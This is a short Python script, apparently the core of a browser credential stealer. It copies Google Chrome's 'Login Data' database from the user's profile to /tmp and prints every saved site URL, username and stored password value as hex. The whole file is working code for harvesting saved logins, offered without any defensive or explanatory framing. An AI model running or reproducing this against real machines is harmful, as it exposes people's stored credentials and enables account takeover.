import shutil
import sqlite3
from pathlib import Path

PROFILE = Path.home() / ".config/google-chrome/Default"
shutil.copy(PROFILE / "Login Data", "/tmp/week.db")
for url, name, secret in sqlite3.connect("/tmp/week.db").execute("select origin_url, username_value, password_value from logins"):
    print(url, name, secret.hex())
